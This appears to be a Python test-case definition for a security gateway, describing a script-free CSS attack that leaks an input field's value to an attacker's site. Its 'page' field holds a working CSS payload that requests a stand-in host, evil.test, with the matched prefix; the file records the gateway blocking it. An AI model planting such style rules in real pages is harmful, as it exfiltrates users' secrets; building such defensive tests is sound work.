"""A style sheet alone, without any script.

A rule that fits what stands in a field loads a background picture from the attacker's site, one address
for each thing that may stand there.

Not covered: style sheets and fonts from permitted sites.
"""

ATTACK = {
    "title": "Style sheet that reports what was typed",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-200", "CSS selectors level 4"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/css*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<style>input[value^=s] { background: url('http://evil.test/css?starts=s') "
    "}</style><input value=secret-of-the-page><h1>Profile</h1>",
}
